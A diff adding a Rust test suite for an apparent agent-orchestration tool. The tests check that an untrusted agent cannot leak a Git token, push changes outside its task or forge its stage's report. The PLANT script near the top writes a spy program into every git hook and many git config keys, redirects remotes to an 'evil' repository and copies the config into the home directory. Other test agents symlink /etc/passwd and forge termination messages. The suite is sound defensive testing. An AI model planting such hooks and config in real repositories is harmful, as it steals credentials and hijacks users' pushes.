@@ -1,0 +1,273 @@
+//! An agent that wants the Git token, or wants to publish what is not its task's.
+
+use std::fs;
+
+use flightdeck::runs::{RunKind, reason};
+
+use super::bench::{Bench, Ended};
+
+const TOKEN: &str = "ghp_a_token_that_nobody_may_see";
+
+/// Plants a program that writes down its environment wherever git could be made to run one, and points every remote at
+/// another repository.
+const PLANT: &str = r#"
+spy="$SPY"
+git_dir=$(git rev-parse --git-dir)
+mkdir -p "$git_dir/hooks" "$git_dir/info"
+for hook in applypatch-msg pre-commit post-commit commit-msg post-checkout post-merge pre-push pre-rebase \
+    reference-transaction post-index-change pre-auto-gc post-rewrite fsmonitor-watchman proc-receive update; do
+  cp "$spy" "$git_dir/hooks/$hook"
+done
+git config core.fsmonitor "$spy"
+git config core.sshCommand "$spy"
+git config core.pager "$spy"
+git config core.editor "$spy"
+git config core.askPass "$spy"
+git config core.gitProxy "$spy"
+git config credential.helper "!$spy"
+git config diff.external "$spy"
+git config gpg.program "$spy"
+git config uploadpack.packObjectsHook "$spy"
+git config filter.spy.clean "$spy"
+git config filter.spy.smudge "$spy"
+git config filter.spy.process "$spy"
+echo '* filter=spy diff=spy' > "$git_dir/info/attributes"
+git config diff.spy.textconv "$spy"
+git config "url.$EVIL.insteadOf" "$ORIGIN"
+git config "url.$EVIL.pushInsteadOf" "$ORIGIN"
+git config remote.origin.url "ext::$spy"
+git config remote.origin.promisor true
+git config remote.origin.partialCloneFilter blob:none
+git config alias.bundle "!$spy"
+git config alias.push "!$spy"
+cp "$git_dir/config" "$HOME/.gitconfig"
+git status > /dev/null 2>&1 || true
+"#;
+
+/// A bench whose agent does its work and then plants [`PLANT`].
+fn planted() -> Bench {
+    let mut bench = Bench::new();
+    bench.credential = vec![("GITHUB_TOKEN".into(), TOKEN.into())];
+    let spy = bench.path("spy.sh");
+    let seen = bench.path("seen");
+    fs::write(
+        &spy,
+        format!("#!/bin/sh\nenv >> '{}'\nexit 0\n", seen.display()),
+    )
+    .unwrap();
+    fs::set_permissions(&spy, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    let evil = bench.path("evil.git");
+    bench.git(&["init", "-q", "--bare", evil.to_str().unwrap()]);
+    bench.agent(&format!(
+        "flightdeck agent template\nSPY='{}' EVIL='{}' ORIGIN='{}'\n{PLANT}",
+        spy.display(),
+        evil.display(),
+        bench.path("origin.git").display()
+    ));
+    bench
+}
+
+fn refused(bench: &Bench, reason: &str, word: &str) -> Ended {
+    let before = bench.origin(&["for-each-ref"]);
+    let ended = bench.run();
+    assert_eq!(ended.code, 1, "{}", ended.log);
+    assert_eq!(
+        ended.report.reason.as_deref(),
+        Some(reason),
+        "{}",
+        ended.log
+    );
+    let message = ended.report.message.clone().unwrap();
+    assert!(message.contains(word), "{message}");
+    assert_eq!(
+        bench.origin(&["for-each-ref"]),
+        before,
+        "something was pushed"
+    );
+    ended
+}
+
+#[test]
+fn nothing_an_agent_plants_in_its_checkout_runs_in_publish_or_sees_the_token() {
+    let bench = planted();
+    let agent = bench.run_until("agent");
+    assert_eq!(agent.code, 0, "{}", agent.log);
+    let seen = bench.path("seen");
+    assert!(seen.exists(), "the spy works: the agent's own git ran it");
+    fs::remove_file(&seen).unwrap();
+
+    let collect = bench.stage("publish collect");
+    assert_eq!(collect.code, 0, "{}", collect.log);
+    let push = bench.stage("publish push");
+    assert_eq!(push.code, 0, "{}", push.log);
+    assert!(
+        !seen.exists(),
+        "publish ran it: {}",
+        fs::read_to_string(seen).unwrap()
+    );
+    assert_eq!(
+        push.report.commit,
+        Some(bench.origin(&["rev-parse", "docs/run-1"]))
+    );
+    let evil = bench.path("evil.git");
+    assert_eq!(bench.git(&["ls-remote", evil.to_str().unwrap()]), "");
+    for log in [agent.log, collect.log, push.log] {
+        assert!(!log.contains(TOKEN));
+    }
+    assert!(!bench.contains(TOKEN), "the token was written down");
+}
+
+#[test]
+fn a_retry_in_a_kept_workspace_does_not_run_what_the_earlier_agent_planted() {
+    let mut bench = planted();
+    assert_eq!(bench.run().code, 0);
+    let seen = bench.path("seen");
+    fs::remove_file(&seen).unwrap();
+    bench.manifest.context_version = 2;
+    for stage in ["prep clone", "prep lay"] {
+        let prep = bench.stage(stage);
+        assert_eq!(prep.code, 0, "{}", prep.log);
+    }
+    assert!(
+        !seen.exists(),
+        "prep ran it: {}",
+        fs::read_to_string(seen).unwrap()
+    );
+}
+
+#[test]
+fn a_change_to_the_plan_is_never_pushed_and_is_named() {
+    let bench = Bench::new();
+    bench.agent(
+        "flightdeck agent template; echo '{}' > .taskmaster/tasks/tasks.json; git commit -qam 'new tasks'",
+    );
+    refused(&bench, reason::OUTSIDE_TASK, ".taskmaster/tasks/tasks.json");
+}
+
+#[test]
+fn a_change_to_the_plan_that_is_not_committed_is_left_behind() {
+    let bench = Bench::new();
+    bench.agent("flightdeck agent template; echo '{}' > .taskmaster/tasks/tasks.json; echo > stray; git add .");
+    let ended = bench.run();
+    assert_eq!(ended.code, 0, "{}", ended.log);
+    let files = bench.origin(&["diff", "--name-only", "feature/shop", "docs/run-1"]);
+    assert_eq!(files.lines().count(), 8, "{files}");
+}
+
+#[test]
+fn a_code_run_never_pushes_the_plan_either() {
+    let mut bench = Bench::new();
+    bench.manifest.kind = RunKind::Code;
+    bench.manifest.task_ids = vec!["1".into()];
+    bench.agent(
+        "echo x > code; echo '{}' > .taskmaster/tasks/tasks.json; git add . && git commit -qm x",
+    );
+    refused(&bench, reason::OUTSIDE_TASK, ".taskmaster/tasks/tasks.json");
+}
+
+#[test]
+fn documents_of_another_task_are_never_pushed() {
+    let bench = Bench::new();
+    bench.agent(
+        "flightdeck agent template; cp -r .taskmaster/docs/task-1 .taskmaster/docs/task-3; git add . && git commit -qm 3",
+    );
+    refused(
+        &bench,
+        reason::OUTSIDE_TASK,
+        ".taskmaster/docs/task-3/task.md",
+    );
+}
+
+#[test]
+fn a_document_that_is_a_link_is_never_pushed() {
+    let bench = Bench::new();
+    bench.agent(
+        "flightdeck agent template; ln -sf /etc/passwd .taskmaster/docs/task-1/prompt.md; git add . && git commit -qm link",
+    );
+    refused(
+        &bench,
+        reason::OUTSIDE_TASK,
+        "prompt.md (as a symbolic link)",
+    );
+}
+
+#[test]
+fn commits_that_do_not_continue_the_source_branch_are_never_pushed() {
+    let bench = Bench::new();
+    bench.agent(
+        "flightdeck agent template; git checkout -q --orphan other && git commit -qm orphan",
+    );
+    refused(&bench, reason::OUTSIDE_TASK, "do not continue feature/shop");
+}
+
+#[test]
+fn a_checkout_that_is_no_repository_any_more_is_said_in_a_sentence() {
+    let bench = Bench::new();
+    bench.agent("rm -rf .git");
+    let ended = bench.run();
+    assert_eq!(ended.code, 1, "{}", ended.log);
+    assert_eq!(ended.report.reason.as_deref(), Some(reason::AGENT_FAILED));
+    assert!(
+        ended
+            .report
+            .message
+            .unwrap()
+            .contains("no commit in its checkout")
+    );
+    assert!(bench.checkout().is_dir());
+}
+
+#[test]
+fn what_collect_hands_over_is_not_believed() {
+    let bench = Bench::new();
+    bench.run_until("publish collect");
+    let collected = bench.handover().join("collect.json");
+    let honest = fs::read_to_string(&collected).unwrap();
+    for (name, content) in [
+        ("work.bundle", "not a bundle"),
+        ("collect.json", "{}"),
+        ("collect.json", "[]"),
+    ] {
+        let path = bench.handover().join(name);
+        let kept = fs::read(&path).unwrap();
+        fs::write(&path, content).unwrap();
+        let push = bench.stage("publish push");
+        assert_eq!(push.code, 1, "{name} {content}: {}", push.log);
+        assert_eq!(push.report.reason.as_deref(), Some(reason::PUSH_FAILED));
+        fs::write(&path, kept).unwrap();
+    }
+    assert_eq!(bench.origin(&["branch", "--list", "docs/*"]), "");
+    // A false base changes nothing: the base is found in the clone.
+    let base = bench.commit.clone();
+    fs::write(&collected, honest.replacen(&base, &"0".repeat(40), 1)).unwrap();
+    let push = bench.stage("publish push");
+    assert_eq!(push.code, 0, "{}", push.log);
+}
+
+#[test]
+fn an_agent_cannot_report_in_the_name_of_its_stage() {
+    let bench = Bench::new();
+    bench.agent(r#"echo '{"commit":"forged","branch":"main"}' > "$TERMINATION_MESSAGE_PATH""#);
+    let agent = bench.run_until("agent");
+    assert_eq!(
+        (agent.code, agent.report.commit, agent.report.branch),
+        (0, None, None)
+    );
+}
+
+#[test]
+fn a_working_directory_that_is_a_link_out_of_the_repository_stops_the_run() {
+    let mut bench = Bench::new();
+    std::os::unix::fs::symlink("/", bench.path("project/out")).unwrap();
+    bench.push("README.md", "a link beside it");
+    bench.manifest.working_directory = "out/tmp".into();
+    let ended = bench.run();
+    assert_eq!(ended.code, 1, "{}", ended.log);
+    assert!(
+        ended
+            .report
+            .message
+            .unwrap()
+            .contains("link out of the repository")
+    );
+}
